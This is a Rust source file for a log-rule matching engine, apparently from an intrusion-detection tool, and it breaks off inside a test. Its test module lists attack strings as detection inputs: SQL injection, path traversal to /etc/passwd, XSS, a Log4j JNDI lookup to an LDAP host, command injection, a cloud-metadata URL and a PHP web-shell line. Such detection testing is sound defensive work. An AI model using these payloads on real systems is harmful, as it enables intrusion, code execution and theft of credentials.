//! A rule file compiled once: the regexes of a field are compiled together
//! into a lazy DFA that tells which of them match in one pass per field
//! and line (linear time; on text that keeps it building states, DFAs of
//! fewer patterns each: see `scan`). Rules then read which patterns matched,
//! compare numbers, CIDRs and literals, follow parent/child links, apply
//! allow-lists and count frequencies.
//!
//! Patterns are byte regexes with Unicode off: `\b`, `\w`, `\s`, `\d` and
//! case folding are ASCII, so the regex engine keeps its fast DFA on any
//! text (a Unicode `\b` makes it fall back to a ~100 times slower engine
//! on the first non-ASCII byte). A pattern turns Unicode on where it needs
//! it with `(?u:...)`.

use std::borrow::Cow;
use std::collections::{HashMap, VecDeque};
use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use ipnet::IpNet;
use jaga_decode::pattern::{check_length, REGEX_DFA_SIZE_LIMIT, REGEX_SIZE_LIMIT};
use jaga_decode::{Fields, UserDecoderSpec, UserDecoders};
use regex::bytes::{Regex, RegexBuilder};

use super::format::{ConditionSpec, RuleFile, RuleSpec};
use super::normalize::{normalize, Normalizer};
use super::scan::{Matched, Scanner};

/// An error in a rule file, with the rule, the file and the line it is on.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{}rule {rule_id}: {message}", place(file.as_deref(), *line))]
pub struct RuleError {
    pub rule_id: String,
    /// The file, when the rules came from one.
    pub file: Option<String>,
    pub line: Option<usize>,
    pub message: String,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RuleFileError {
    #[error("{}{message}", place(file.as_deref(), *line))]
    Syntax {
        file: Option<String>,
        line: Option<usize>,
        message: String,
    },
    #[error("{}the rule file is {bytes} bytes, more than the limit of {MAX_RULE_FILE_BYTES}", place(file.as_deref(), None))]
    TooLarge { file: Option<String>, bytes: u64 },
    #[error("{0}")]
    Rule(RuleError),
    #[error("{}{message}", place(file.as_deref(), *line))]
    Decoder {
        file: Option<String>,
        line: Option<usize>,
        message: String,
    },
    #[error("{} errors:\n{}", .0.len(), .0.iter().map(|e| format!("  {e}")).collect::<Vec<_>>().join("\n"))]
    Many(Vec<RuleError>),
}

/// `'file', line N: ` (each part when known) before a message.
fn place(file: Option<&str>, line: Option<usize>) -> String {
    match (file, line) {
        (Some(file), Some(line)) => format!("'{file}', line {line}: "),
        (Some(file), None) => format!("'{file}': "),
        (None, Some(line)) => format!("line {line}: "),
        (None, None) => String::new(),
    }
}

/// The largest rule file accepted, in bytes: the YAML parser holds all of
/// it, and every pattern in it gets compiled.
pub const MAX_RULE_FILE_BYTES: u64 = 1 << 20;

/// The most heap the NFA of the patterns of one field may take, and the
/// cache of the DFA that reads them all (the DFAs of fewer patterns get a
/// quarter of it, at least 2 MB, each level down: see `scan`).
const SET_SIZE_LIMIT: usize = 32 << 20;

/// One rule file's text and the name errors give it.
#[derive(Debug, Clone, Copy)]
pub struct RuleSource<'a> {
    pub name: Option<&'a str>,
    pub text: &'a str,
}

const MAX_PAYLOAD: usize = 256;

#[derive(Debug)]
enum Matcher {
    /// Where the pattern sits in the set of each field of the condition
    /// (set, index; in the order of the fields), and the pattern alone (for
    /// the payload).
    Regex {
        slots: Vec<(usize, usize)>,
        regex: Regex,
    },
    Literal(String),
    Equals(String),
    AnyOf(Vec<String>),
    Cidr(Vec<IpNet>),
    Number {
        gt: Option<f64>,
        ge: Option<f64>,
        lt: Option<f64>,
        le: Option<f64>,
    },
}

/// A condition on one field, or on several written `url|user_agent`: it
/// holds when it holds for any of them.
#[derive(Debug)]
struct Condition {
    fields: Vec<String>,
    normalized: bool,
    matcher: Matcher,
    not: bool,
}

#[derive(Debug)]
struct Frequency {
    count: u32,
    timeframe: u64,
    same: Option<String>,
}

#[derive(Debug)]
struct Rule {
    id: String,
    level: u8,
    description: String,
    groups: Vec<String>,
    mitre: Vec<String>,
    decoder: Option<String>,
    parent: Option<usize>,
    conditions: Vec<Condition>,
    allow: Vec<Vec<Condition>>,
    frequency: Option<Frequency>,
}

/// A field, whether its patterns run on the normalized text, and the
/// conditions' compiled regexes on it: what a [`FieldSet`] is built from.
type FieldPatterns = (String, bool, Vec<Regex>);

/// The patterns of one field (normalized or raw) compiled together into
/// lazy DFAs that tell which of them match in one pass over the text (see
/// [`Scanner`]). Fields with the same patterns share one. The conditions'
/// own compiled regexes are kept for the payload (the text the first one
/// matched), to confirm a match of a pattern the DFAs read relaxed, and
/// to run one by one on a text the DFAs gave up on.
#[derive(Debug)]
struct FieldSet {
    field: String,
    normalized: bool,
    scanner: Arc<Scanner>,
    patterns: Vec<Regex>,
}

impl FieldSet {
    /// Which patterns match `text`, by index; `None` when none does.
    fn matches(&self, text: &[u8], fallbacks: &AtomicU64) -> Option<Matched> {
        match self.scanner.matches_with_places(text) {
            Ok(Some(mut matched)) => {
                // A pattern read with its counts relaxed matched at least
                // what it says: the pattern itself tells, by a search for
                // the first match, which the payload is then cut from.
                for index in 0..matched.found.len() {
                    if matched.found[index] && self.scanner.relaxed(index) {
                        let from = matched.from(index);
                        let first = self
                            .patterns
                            .get(index)
                            .and_then(|p| p.find_at(text, from))
                            .map(|m| m.range());
                        matched.confirm(index, first);
                    }
                }
                matched.found.contains(&true).then_some(matched)
            }
            Ok(None) => None,
            Err(_) => {
                fallbacks.fetch_add(1, Ordering::Relaxed);
                let found: Vec<bool> = self.patterns.iter().map(|p| p.is_match(text)).collect();
                found.contains(&true).then(|| Matched::anywhere(found))
            }
        }
    }
}

/// A rule that matched a line.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct RuleMatch {
    pub id: String,
    pub level: u8,
    pub description: String,
    pub groups: Vec<String>,
    pub mitre: Vec<String>,
    /// The text its first regex matched, normalized.
    pub payload: Option<String>,
    /// The field that text is from (`url`, `user_agent`, ...).
    pub payload_field: Option<String>,
    /// For frequency rules: how many matches made it fire.
    pub count: Option<u32>,
}

impl RuleMatch {
    /// The rule as an alert names it.
    pub fn alert_rule(&self) -> jaga_model::AlertRule {
        jaga_model::AlertRule {
            id: self.id.clone(),
            level: self.level,
            description: self.description.clone(),
            groups: self.groups.clone(),
            mitre: self.mitre.clone(),
        }
    }
}

/// Per-rule, per-key sliding windows of frequency rules.
///
/// Keys come from log lines (`same: srcip`), so anyone who can reach a
/// logged service can mint new ones: windows past their rule's timeframe are
/// dropped every [`Self::EXPIRE_EVERY`] seconds of log time, and at most
/// `max_keys` are held; beyond that the least recently updated eighth is
/// evicted (counted in [`Self::evicted_total`]).
#[derive(Debug)]
pub struct FrequencyState {
    windows: HashMap<(usize, String), VecDeque<u64>>,
    max_keys: usize,
    /// Log time (seconds) of the last expiry pass.
    last_expiry: u64,
    evicted_total: u64,
}

impl Default for FrequencyState {
    fn default() -> Self {
        Self::with_max_keys(Self::MAX_KEYS)
    }
}

impl FrequencyState {
    /// ~100 bytes a window with a short key: about 10 MB at the cap.
    pub const MAX_KEYS: usize = 100_000;
    pub const EXPIRE_EVERY: u64 = 60;

    pub fn with_max_keys(max_keys: usize) -> Self {
        Self {
            windows: HashMap::new(),
            max_keys: max_keys.max(1),
            last_expiry: 0,
            evicted_total: 0,
        }
    }

    /// Windows held now.
    pub fn len(&self) -> usize {
        self.windows.len()
    }

    pub fn is_empty(&self) -> bool {
        self.windows.is_empty()
    }

    /// Windows dropped while still open because the cap was reached.
    pub fn evicted_total(&self) -> u64 {
        self.evicted_total
    }

    /// Drops windows with no event inside their rule's timeframe
    /// (`timeframe_of(rule index)`), and those emptied by firing.
    fn expire(&mut self, now: u64, timeframe_of: impl Fn(usize) -> u64) {
        self.last_expiry = self.last_expiry.max(now);
        self.windows.retain(|(rule, _), window| {
            window
                .back()
                .is_some_and(|last| now.saturating_sub(*last) < timeframe_of(*rule))
        });
    }

    /// Makes room for one more window: expired ones first, then the least
    /// recently updated eighth.
    fn make_room(&mut self, now: u64, timeframe_of: impl Fn(usize) -> u64) {
        self.expire(now, timeframe_of);
        if self.windows.len() < self.max_keys {
            return;
        }
        let evict = (self.max_keys / 8).max(1);
        let mut lasts: Vec<u64> = self
            .windows
            .values()
            .map(|w| w.back().copied().unwrap_or(0))
            .collect();
        let (_, threshold, _) = lasts.select_nth_unstable(evict - 1);
        let threshold = *threshold;
        let older = lasts.iter().filter(|last| **last < threshold).count();
        let mut ties = evict - older;
        self.windows.retain(|_, window| {
            let last = window.back().copied().unwrap_or(0);
            if last < threshold {
                return false;
            }
            if last == threshold && ties > 0 {
                ties -= 1;
                return false;
            }
            true
        });
        self.evicted_total += evict as u64;
    }
}

#[derive(Debug)]
pub struct RuleSet {
    rules: Vec<Rule>,
    sets: Vec<FieldSet>,
    pub decoders: UserDecoders,
    /// Texts the lazy DFA gave up on, matched pattern by pattern instead.
    fallbacks: AtomicU64,
}

impl RuleSet {
    /// Parses and compiles a rule file; every problem found is reported,
    /// each with its rule id and line.
    pub fn parse(text: &str) -> Result<Self, RuleFileError> {
        Self::parse_sources(&[RuleSource { name: None, text }])
    }

    /// Several files, in order, as one set (the built-in rules, then the
    /// user's); errors name the file and the line in it.
    pub fn parse_sources(sources: &[RuleSource<'_>]) -> Result<Self, RuleFileError> {
        let mut decoders: Vec<(usize, UserDecoderSpec)> = Vec::new();
        let mut rules: Vec<(usize, RuleSpec)> = Vec::new();
        let mut lists = Lists::new();
        for (index, source) in sources.iter().enumerate() {
            let parsed: RuleFile = parse_yaml(source)?;
            decoders.extend(parsed.decoders.into_iter().map(|d| (index, d)));
            rules.extend(parsed.rules.into_iter().map(|r| (index, r)));
            lists.extend(parsed.lists);
        }
        Self::compile(sources, &decoders, &rules, &lists)
    }

    /// Compiles rules already parsed: `specs` with the index of the source
    /// each came from, `lists` from all of them (a later file's list of
    /// the same name replaces an earlier one).
    pub(crate) fn compile(
        sources: &[RuleSource<'_>],
        decoder_specs: &[(usize, UserDecoderSpec)],
        specs: &[(usize, RuleSpec)],
        lists: &Lists,
    ) -> Result<Self, RuleFileError> {
        let only_specs: Vec<UserDecoderSpec> =
            decoder_specs.iter().map(|(_, d)| d.clone()).collect();
        let decoders = UserDecoders::compile(&only_specs).map_err(|e| {
            let source = decoder_specs
                .iter()
                .find(|(_, d)| d.name == e.decoder())
                .and_then(|(index, _)| sources.get(*index));
            RuleFileError::Decoder {
                file: source.and_then(|s| s.name.map(str::to_owned)),
                line: source.and_then(|s| line_of_value(s.text, "name", e.decoder(), 0)),
                message: e.to_string(),
            }
        })?;
        let mut errors: Vec<RuleError> = Vec::new();
        let mut patterns: Vec<FieldPatterns> = Vec::new();
        // The rules that added patterns to each field's set, to name one when the set fails.
        let mut pattern_rules: Vec<Vec<usize>> = Vec::new();
        let mut rules: Vec<Rule> = Vec::new();
        let mut places: Vec<(Option<String>, Option<usize>)> = Vec::new();
        let mut ids: HashMap<String, usize> = HashMap::new();
        let mut seen: HashMap<(usize, &str), usize> = HashMap::new();
        for (source_index, spec) in specs {
            let source = sources.get(*source_index);
            let occurrence = seen.entry((*source_index, spec.id.as_str())).or_default();
            let line = source.and_then(|s| line_of_value(s.text, "id", &spec.id, *occurrence));
            *occurrence += 1;
            let file = source.and_then(|s| s.name.map(str::to_owned));
            places.push((file.clone(), line));
            let mut fail = |message: String| {
                errors.push(RuleError {
                    rule_id: spec.id.clone(),
                    file: file.clone(),
                    line,
                    message,
                })
            };
            if spec.level > 15 {
                fail(format!("level {} is out of range 0..=15", spec.level));
            }
            if ids.contains_key(&spec.id) {
                fail("duplicate rule id".to_owned());
            }
            let parent = match &spec.parent {
                Some(parent) => match ids.get(parent) {
                    Some(index) => Some(*index),
                    None => {
                        fail(format!("parent '{parent}' is not defined before this rule"));
                        None
                    }
                },
                None => None,
            };
            if spec.conditions.is_empty() && spec.parent.is_none() && spec.frequency.is_none() {
                fail(
                    "no match conditions, parent or frequency: it would match every line"
                        .to_owned(),
                );
            }
            let mut compile_all = |map: &std::collections::BTreeMap<String, ConditionSpec>,
                                   fail: &mut dyn FnMut(String)| {
                let mut out = Vec::new();
                for (field, condition) in map {
                    match compile_condition(field, condition, lists, &mut patterns) {
                        Ok(condition) => {
                            if let Matcher::Regex { slots, .. } = &condition.matcher {
                                pattern_rules.resize(patterns.len(), Vec::new());
                                for (set, _) in slots {
                                    pattern_rules[*set].push(rules.len());
                                }
                            }
                            out.push(condition)
                        }
                        Err(message) => fail(format!("field '{field}': {message}")),
                    }
                }
                out
            };
            let conditions = compile_all(&spec.conditions, &mut fail);
            let allow: Vec<Vec<Condition>> = spec
                .allow
                .iter()
                .map(|a| compile_all(a, &mut fail))
                .collect();
            let frequency = spec.frequency.as_ref().map(|f| Frequency {
                count: f.count,
                timeframe: f.timeframe,
                same: f.same.clone(),
            });
            if let Some(f) = &frequency {
                if f.count == 0 || f.timeframe == 0 {
                    fail("frequency needs count and timeframe of at least 1".to_owned());
                }
            }
            ids.insert(spec.id.clone(), rules.len());
            rules.push(rule_from(spec, parent, conditions, allow, frequency));
        }
        let mut sets = Vec::new();
        // Each distinct list of patterns compiled once (body and headers
        // carry the same web rules).
        let mut compiled: HashMap<Vec<&str>, Arc<Scanner>> = HashMap::new();
        for (slot, (field, normalized, list)) in patterns.iter().enumerate() {
            let texts: Vec<&str> = list.iter().map(Regex::as_str).collect();
            let scanner = match compiled.get(&texts) {
                Some(scanner) => Ok(Arc::clone(scanner)),
                None => Scanner::new(&texts, SET_SIZE_LIMIT).map(|scanner| {
                    let scanner = Arc::new(scanner);
                    compiled.insert(texts, Arc::clone(&scanner));
                    scanner
                }),
            };
            match scanner {
                Ok(scanner) => sets.push(FieldSet {
                    field: field.clone(),
                    normalized: *normalized,
                    scanner,
                    patterns: list.clone(),
                }),
                Err(e) => {
                    // Named after the last rule that added a pattern: the one that tipped it.
                    let last = pattern_rules
                        .get(slot)
                        .and_then(|r| r.last())
                        .and_then(|r| rules.get(*r).zip(places.get(*r)));
                    errors.push(RuleError {
                        rule_id: last.map_or_else(|| "*".to_owned(), |(r, _)| r.id.clone()),
                        file: last.and_then(|(_, (file, _))| file.clone()),
                        line: last.and_then(|(_, (_, line))| *line),
                        message: format!(
                            "the patterns of field '{field}' do not compile together: {e}"
                        ),
                    })
                }
            }
        }
        match errors.len() {
            0 => Ok(Self {
                rules,
                sets,
                decoders,
                fallbacks: AtomicU64::new(0),
            }),
            1 => Err(RuleFileError::Rule(errors.remove(0))),
            _ => Err(RuleFileError::Many(errors)),
        }
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Field texts on which the patterns' lazy DFA gave up (its cache
    /// thrashed, or a Unicode `\b` met non-ASCII text) and which were
    /// matched pattern by pattern instead, slower but with the same result.
    pub fn dfa_fallbacks(&self) -> u64 {
        self.fallbacks.load(Ordering::Relaxed)
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The timeframe of rule `index`'s frequency window (0: it has none).
    fn timeframe_of(&self, index: usize) -> u64 {
        self.rules
            .get(index)
            .and_then(|rule| rule.frequency.as_ref())
            .map_or(0, |f| f.timeframe)
    }

    /// The rules `fields` match at time `now` (seconds), in rule order.
    pub fn evaluate(
        &self,
        fields: &Fields,
        now: u64,
        state: &mut FrequencyState,
    ) -> Vec<RuleMatch> {
        NORMALIZED.with_borrow_mut(|normalized| {
            let matches = self.evaluate_with(fields, now, state, normalized);
            normalized.release_long();
            matches
        })
    }

    fn evaluate_with(
        &self,
        fields: &Fields,
        now: u64,
        state: &mut FrequencyState,
        normalized: &mut NormalizedTexts,
    ) -> Vec<RuleMatch> {
        // Each field's text for its set, normalized once (a field has at
        // most one set of normalized patterns), into buffers kept from the
        // last line.
        normalized.texts.resize_with(self.sets.len(), Vec::new);
        let NormalizedTexts { normalizer, texts } = normalized;
        let set_matches: Vec<FieldMatches<'_>> = self
            .sets
            .iter()
            .zip(texts.iter_mut())
            .map(|(s, buffer)| {
                let raw = fields.get(&s.field)?;
                let text = match s.normalized {
                    true => normalizer.normalize_into(raw, buffer),
                    false => raw,
                };
                Some((s.matches(text.as_bytes(), &self.fallbacks), text))
            })
            .collect();
        let mut text_of = |field: &str, normalized: bool| -> Option<Cow<'_, str>> {
            let known = self
                .sets
                .iter()
                .zip(&set_matches)
                .find(|(s, _)| s.field == field && s.normalized == normalized)
                .and_then(|(_, m)| m.as_ref());
            if let Some((_, text)) = known {
                return Some(Cow::Borrowed(*text));
            }
            let raw = fields.get(field)?;
            Some(match normalized {
                true => Cow::Owned(normalize(raw)),
                false => Cow::Borrowed(raw),
            })
        };
        // Log time, not the clock: windows are in log time. A line older
        // than the last pass (a file read from its start) waits for the next.
        if now
            >= state
                .last_expiry
                .saturating_add(FrequencyState::EXPIRE_EVERY)
        {
            state.expire(now, |rule| self.timeframe_of(rule));
        }
        let mut matched = vec![false; self.rules.len()];
        let mut out = Vec::new();
        for (index, rule) in self.rules.iter().enumerate() {
            if let Some(parent) = rule.parent {
                if !matched[parent] {
                    continue;
                }
            }
            if let Some(prefix) = &rule.decoder {
                if !fields.decoder.starts_with(prefix.as_str()) {
                    continue;
                }
            }
            if !rule
                .conditions
                .iter()
                .all(|c| holds(c, fields, &set_matches, &mut text_of))
            {
                continue;
            }
            if rule.allow.iter().any(|a| {
                a.iter()
                    .all(|c| holds(c, fields, &set_matches, &mut text_of))
            }) {
                continue;
            }
            let mut count = None;
            if let Some(f) = &rule.frequency {
                let key = (
                    index,
                    f.same
                        .as_deref()
                        .and_then(|s| fields.get(s))
                        .unwrap_or("")
                        .to_owned(),
                );
                if state.windows.len() >= state.max_keys && !state.windows.contains_key(&key) {
                    state.make_room(now, |rule| self.timeframe_of(rule));
                }
                let window = state.windows.entry(key).or_default();
                window.push_back(now);
                while window
                    .front()
                    .is_some_and(|t| now.saturating_sub(*t) >= f.timeframe)
                {
                    window.pop_front();
                }
                if (window.len() as u32) < f.count {
                    continue;
                }
                count = Some(window.len() as u32);
                window.clear();
            }
            matched[index] = true;
            let (payload, payload_field) = payload_of(rule, &set_matches, &self.sets);
            out.push(RuleMatch {
                id: rule.id.clone(),
                level: rule.level,
                description: rule.description.clone(),
                groups: rule.groups.clone(),
                mitre: rule.mitre.clone(),
                payload,
                payload_field,
                count,
            });
        }
        out
    }
}

fn rule_from(
    spec: &RuleSpec,
    parent: Option<usize>,
    conditions: Vec<Condition>,
    allow: Vec<Vec<Condition>>,
    frequency: Option<Frequency>,
) -> Rule {
    Rule {
        id: spec.id.clone(),
        level: spec.level,
        description: spec.description.clone(),
        groups: spec.groups.clone(),
        mitre: spec.mitre.clone(),
        decoder: spec.decoder.clone(),
        parent,
        conditions,
        allow,
        frequency,
    }
}

/// Named lists of values, by name.
pub(crate) type Lists = std::collections::BTreeMap<String, Vec<String>>;

fn compile_condition(
    key: &str,
    spec: &ConditionSpec,
    lists: &Lists,
    patterns: &mut Vec<FieldPatterns>,
) -> Result<Condition, String> {
    let fields: Vec<String> = key.split('|').map(|f| f.trim().to_owned()).collect();
    if fields.iter().any(String::is_empty) {
        return Err("a field name is empty (write 'url|user_agent')".to_owned());
    }
    let kinds = [
        spec.regex.is_some(),
        spec.literal.is_some(),
        spec.equals.is_some(),
        spec.any_of.is_some(),
        spec.list.is_some(),
        spec.cidr.is_some(),
        spec.gt.is_some() || spec.ge.is_some() || spec.lt.is_some() || spec.le.is_some(),
    ]
    .iter()
    .filter(|k| **k)
    .count();
    if kinds != 1 {
        return Err(
            "give exactly one of regex, literal, equals, any_of, list, cidr, or gt/ge/lt/le"
                .to_owned(),
        );
    }
    let textual = spec.regex.is_some() || spec.literal.is_some();
    let normalized = spec.normalize.unwrap_or(textual);
    let matcher = if let Some(pattern) = &spec.regex {
        let full = if spec.case_sensitive {
            pattern.clone()
        } else {
            format!("(?i){pattern}")
        };
        check_length(pattern).map_err(|e| format!("regex refused: {e}"))?;
        let regex = build_ascii_regex(&full).map_err(|e| format!("invalid regex: {e}"))?;
        let mut slots = Vec::with_capacity(fields.len());
        for field in &fields {
            let slot = match patterns
                .iter()
                .position(|(f, n, _)| f == field && *n == normalized)
            {
                Some(slot) => slot,
                None => {
                    patterns.push((field.clone(), normalized, Vec::new()));
                    patterns.len() - 1
                }
            };
            patterns[slot].2.push(regex.clone());
            slots.push((slot, patterns[slot].2.len() - 1));
        }
        Matcher::Regex { slots, regex }
    } else if let Some(literal) = &spec.literal {
        Matcher::Literal(literal.to_lowercase())
    } else if let Some(equals) = &spec.equals {
        Matcher::Equals(equals.to_lowercase())
    } else if let Some(list) = &spec.any_of {
        Matcher::AnyOf(list.iter().map(|s| s.to_lowercase()).collect())
    } else if let Some(name) = &spec.list {
        let list = lists
            .get(name)
            .ok_or_else(|| format!("list '{name}' is not defined (lists: at the top of a file)"))?;
        Matcher::AnyOf(list.iter().map(|s| s.to_lowercase()).collect())
    } else if let Some(cidrs) = &spec.cidr {
        let nets = cidrs
            .iter()
            .map(|c| {
                c.parse::<IpNet>()
                    .or_else(|_| c.parse::<IpAddr>().map(IpNet::from))
                    .map_err(|_| format!("'{c}' is not a CIDR or an address"))
            })
            .collect::<Result<Vec<_>, _>>()?;
        Matcher::Cidr(nets)
    } else {
        Matcher::Number {
            gt: spec.gt,
            ge: spec.ge,
            lt: spec.lt,
            le: spec.le,
        }
    };
    Ok(Condition {
        fields,
        normalized,
        matcher,
        not: spec.not,
    })
}

/// A compiled pattern in the dialect of rules: bytes, Unicode off.
fn build_ascii_regex(pattern: &str) -> Result<Regex, String> {
    check_length(pattern)?;
    RegexBuilder::new(pattern)
        .unicode(false)
        .size_limit(REGEX_SIZE_LIMIT)
        .dfa_size_limit(REGEX_DFA_SIZE_LIMIT)
        .build()
        .map_err(|e| {
            let text = e.to_string();
            match text.contains("Unicode not allowed") {
                true => format!(
                    "{text} (rule patterns are ASCII: put non-ASCII text or Unicode classes \
                     inside (?u:...))"
                ),
                false => text,
            }
        })
}

/// Per field: which of its patterns matched (`None`: none) and the text.
type FieldMatches<'a> = Option<(Option<Matched>, &'a str)>;

/// The normalized texts of one line, a buffer per field set, kept from one
/// line to the next: normalizing an 8 KB text otherwise costs two
/// allocations of its size.
#[derive(Default)]
struct NormalizedTexts {
    normalizer: Normalizer,
    texts: Vec<Vec<u8>>,
}

impl NormalizedTexts {
    /// Buffers grown beyond this by a long line are given back after it.
    const KEPT_BYTES: usize = 64 << 10;

    fn release_long(&mut self) {
        for text in &mut self.texts {
            if text.capacity() > Self::KEPT_BYTES {
                *text = Vec::new();
            }
        }
        self.normalizer.release_long(Self::KEPT_BYTES);
    }
}

thread_local! {
    /// Per thread: rule sets are shared between the threads that read logs.
    static NORMALIZED: std::cell::RefCell<NormalizedTexts> =
        std::cell::RefCell::new(NormalizedTexts::default());
}
type SetMatches<'a> = [FieldMatches<'a>];

fn holds<'a>(
    condition: &Condition,
    fields: &Fields,
    sets: &SetMatches<'a>,
    text_of: &mut impl FnMut(&str, bool) -> Option<Cow<'a, str>>,
) -> bool {
    let on_field = |field: &String, text_of: &mut dyn FnMut(&str, bool) -> Option<Cow<'a, str>>| {
        let value = || fields.get(field);
        match &condition.matcher {
            Matcher::Regex { .. } => false,
            Matcher::Literal(needle) => text_of(field, condition.normalized)
                .is_some_and(|t| t.to_lowercase().contains(needle.as_str())),
            Matcher::Equals(expected) => value().is_some_and(|v| v.eq_ignore_ascii_case(expected)),
            Matcher::AnyOf(values) => {
                value().is_some_and(|v| values.iter().any(|x| v.eq_ignore_ascii_case(x)))
            }
            Matcher::Cidr(nets) => value()
                .and_then(|v| v.parse::<IpAddr>().ok())
                .is_some_and(|ip| nets.iter().any(|n| n.contains(&ip))),
            Matcher::Number { gt, ge, lt, le } => value()
                .and_then(|v| v.trim().parse::<f64>().ok())
                .is_some_and(|n| {
                    gt.is_none_or(|x| n > x)
                        && ge.is_none_or(|x| n >= x)
                        && lt.is_none_or(|x| n < x)
                        && le.is_none_or(|x| n <= x)
                }),
        }
    };
    let result = match &condition.matcher {
        Matcher::Regex { slots, .. } => slots.iter().any(|(set, index)| {
            sets.get(*set)
                .and_then(|s| s.as_ref())
                .is_some_and(|(m, _)| pattern_matched(m.as_deref(), *index))
        }),
        _ => condition.fields.iter().any(|f| on_field(f, text_of)),
    };
    result != condition.not
}

/// Whether pattern `index` of a field matched, given what the field's
/// DFA found.
fn pattern_matched(matches: Option<&[bool]>, index: usize) -> bool {
    matches.and_then(|m| m.get(index)).copied().unwrap_or(false)
}

/// The text the rule's first regex matched, and its field: the first of
/// the condition's fields (in the order written) that matched.
fn payload_of(
    rule: &Rule,
    set_matches: &SetMatches<'_>,
    sets: &[FieldSet],
) -> (Option<String>, Option<String>) {
    for condition in rule.conditions.iter().filter(|c| !c.not) {
        let Matcher::Regex { slots, regex } = &condition.matcher else {
            continue;
        };
        for (set, index) in slots {
            let Some(Some((matches, text))) = set_matches.get(*set) else {
                continue;
            };
            if !pattern_matched(matches.as_deref(), *index) {
                continue;
            }
            // No match starts before where the readings from starts first
            // matched it.
            let from = matches.as_ref().map_or(0, |m| m.from(*index));
            let first = matches
                .as_ref()
                .and_then(|m| m.first(*index))
                .or_else(|| regex.find_at(text.as_bytes(), from).map(|m| m.range()));
            if let Some(range) = first {
                let bytes = text.as_bytes().get(range).unwrap_or_default();
                let mut payload = String::from_utf8_lossy(bytes).into_owned();
                if payload.len() > MAX_PAYLOAD {
                    let mut cut = MAX_PAYLOAD;
                    while !payload.is_char_boundary(cut) {
                        cut -= 1;
                    }
                    payload.truncate(cut);
                }
                return (Some(payload), sets.get(*set).map(|s| s.field.clone()));
            }
        }
    }
    (None, None)
}

/// One rule file's YAML, refused whole when larger than
/// [`MAX_RULE_FILE_BYTES`]; a syntax error names the file and the line.
pub(crate) fn parse_yaml<T: serde::de::DeserializeOwned>(
    source: &RuleSource<'_>,
) -> Result<T, RuleFileError> {
    let file = source.name.map(str::to_owned);
    if source.text.len() as u64 > MAX_RULE_FILE_BYTES {
        return Err(RuleFileError::TooLarge {
            file,
            bytes: source.text.len() as u64,
        });
    }
    serde_yaml_ng::from_str(source.text).map_err(|e| RuleFileError::Syntax {
        file,
        line: e.location().map(|l| l.line()),
        message: e.to_string(),
    })
}

/// The line of the `occurrence`-th (from 0) `key: value` (quoted or not,
/// maybe a list item, maybe first in a flow mapping `- {key: value, ...}`)
/// in the text.
pub(crate) fn line_of_value(
    text: &str,
    key: &str,
    value: &str,
    occurrence: usize,
) -> Option<usize> {
    text.lines()
        .enumerate()
        .filter(|(_, line)| {
            let t = line.trim().trim_start_matches("- ").trim();
            let (t, flow) = match t.strip_prefix('{') {
                Some(inner) => (inner.trim_start(), true),
                None => (t, false),
            };
            t.strip_prefix(key)
                .and_then(|rest| rest.trim_start().strip_prefix(':'))
                .map(|v| match flow {
                    true => v.split([',', '}']).next().unwrap_or_default(),
                    false => v,
                })
                .map(|v| v.trim().trim_matches('"').trim_matches('\''))
                .is_some_and(|v| v == value)
        })
        .nth(occurrence)
        .map(|(i, _)| i + 1)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logs::scan::tests::scrambled;

    /// Long texts of the kinds an attacker sends to slow matching down,
    /// with and without an attack inside, and attacks alone.
    fn texts() -> Vec<String> {
        let mut texts = Vec::new();
        let attacks = [
            "1' union select password from users--",
            "../../../../etc/passwd",
            "<script>alert(1)</script>",
            "${jndi:ldap://x/a}",
            ";cat /etc/hosts",
            "http://169.254.169.254/latest/meta-data/",
            "<?php system($_GET['c']); ?>",
            "http://a%2f@b/",
        ];
        for unit in [
            "a",
            "'",
            "(",
            "../",
            "/*",
            "${",
            "&#x",
            "a=1&",
            "hello world ",
            "שלום עולם ",
            "привет мир ",
            "你好世界 ",
            "\"",
            "<a ",
            ";a",
            "\u{fffd}",
        ] {
            let pad = unit.repeat(3000 / unit.len());
            texts.push(format!("/search?q={pad}"));
            for attack in attacks {
                texts.push(format!("/search?q={pad}{attack}"));
                texts.push(format!("/search?q={attack}{pad}"));
            }
        }
        texts.extend(attacks.iter().map(|a| format!("/x?q={a}")));
        texts
    }

    #[test]
    fn each_field_dfa_tells_the_same_patterns_as_the_patterns_one_by_one_on_scrambled_text() {
        let rules = crate::logs::builtin().unwrap();
        let letters: Vec<String> = ('a'..='z').chain('A'..='Z').map(String::from).collect();
        let mut latin: Vec<&str> = letters.iter().map(String::as_str).collect();
        latin.extend([" ", " ", "+", "=", "&"]);
        let punctuation: Vec<&str> = "'()<>;|&$`{}[]*/.=-#\\"
            .split("")
            .filter(|c| !c.is_empty())
            .collect();
        let mixed: Vec<&str> = [
            "a", "S", "e", "l", "c", "t", "o", "r", "1", " ", "'", "\"", "(", ")", "=", "/", ".",
            "$", "{", "}", ";", "|", "<", ">", "%", ":", "-", "\u{43f}", "\u{5e9}", "\u{4f60}",
            "\u{fffd}", "\t",
        ]
        .into();
        let ascii: Vec<String> = (0u8..=127).map(|b| char::from(b).to_string()).collect();
        let mut any_byte: Vec<&str> = ascii.iter().map(String::as_str).collect();
        any_byte.extend(["\u{e9}", "\u{430}", "\u{fffd}", "\u{5d0}"]);
        let payloads = [
            "",
            "1' UNION SELECT password FROM users--",
            "../../ETC/passwd",
            "<ScRiPt>alert(1)</script>",
            "${jndi:ldap://x/a}",
            ";cat /etc/hosts",
            "http://169.254.169.254/latest/",
            "?cmd=whoami",
            "' or 1=1 --",
        ];
        let mut texts = Vec::new();
        for (kind, alphabet) in [&latin, &punctuation, &mixed, &any_byte]
            .into_iter()
            .enumerate()
        {
            for len in [60usize, 2100, 8100] {
                for (n, payload) in payloads.iter().enumerate() {
                    // Payloads at the start, across where a second lane
                    // starts, and near the end.
                    for at in [0, len / 2 - 7, len.saturating_sub(40)] {
                        let seed = (kind * 100_000 + len * 10 + n * 7 + at) as u32;
                        texts.push(scrambled(alphabet, len, seed, payload, at));
                    }
                }
            }
        }
        // And again with every root hot from the first text.
